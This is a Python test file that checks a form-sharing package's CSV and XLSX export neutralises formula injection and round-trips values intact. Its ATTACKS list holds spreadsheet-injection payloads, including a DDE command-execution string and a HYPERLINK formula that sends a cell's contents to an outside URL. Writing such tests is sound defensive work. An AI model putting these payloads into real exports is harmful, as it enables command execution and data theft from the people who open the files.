"""What a spreadsheet would run is neutralised, and everything comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gestand.kernel.errors import RefusedError
from gestand.kernel.ids import FieldPath
from gestand.sharing.model import Form
from gestand.sharing.package import FORMULA, LONGEST_CELL, Contents, neutral, plain, write

FIELD = FieldPath("service.notes")
ATTACKS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
    "＝1+1", "'=1+1", "'",
)  # fmt: skip
values = st.one_of(st.sampled_from(ATTACKS), st.text(st.characters(exclude_categories=["Cs"]), max_size=30))


def contents(*found: str) -> Contents:
    rows = tuple((number, {FIELD: (value,)}) for number, value in enumerate(found, 1))
    return Contents(
        "shr_x", "bookkeeper", "administration", "AWR 52", datetime(2026, 12, 7, tzinfo=UTC), (FIELD,), rows
    )


@given(values)
def test_no_text_begins_like_a_formula_and_each_comes_back(value: str):
    safe = neutral(value)
    assert not safe.startswith(FORMULA)
    assert plain(safe) == value


@given(st.lists(values, min_size=1, max_size=5))
def test_a_csv_is_read_back_as_it_was_but_for_the_apostrophes(found: list[str]):
    text = write(contents(*found), Form.CSV).decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert head == ["reference", FIELD]
    assert [plain(row[1]) for row in rows] == found
    assert not any(cell.startswith(FORMULA) for row in rows for cell in row)


readable = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), max_size=30)


@given(st.lists(st.one_of(st.sampled_from(["=1+1", "+1", "-1", "@A1", "http://example.org", "12", "=cmd|' /C calc'!A0"]), readable),
                min_size=1, max_size=4))  # fmt: skip
def test_a_workbook_holds_texts_and_no_formula_number_or_link(found: list[str]):
    sheet = openpyxl.load_workbook(io.BytesIO(write(contents(*found), Form.XLSX))).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" or cell.value is None for cell in cells)
    assert all(cell.hyperlink is None for cell in cells)
    assert [cell.value or "" for cell in cells] == found


def test_what_no_cell_holds_is_refused_and_not_cut():
    long = contents("x" * (LONGEST_CELL + 1))
    with pytest.raises(RefusedError) as refused:
        write(long, Form.XLSX)
    assert refused.value.code == "package-cell"
    assert b"x" * (LONGEST_CELL + 1) in write(long, Form.JSON)
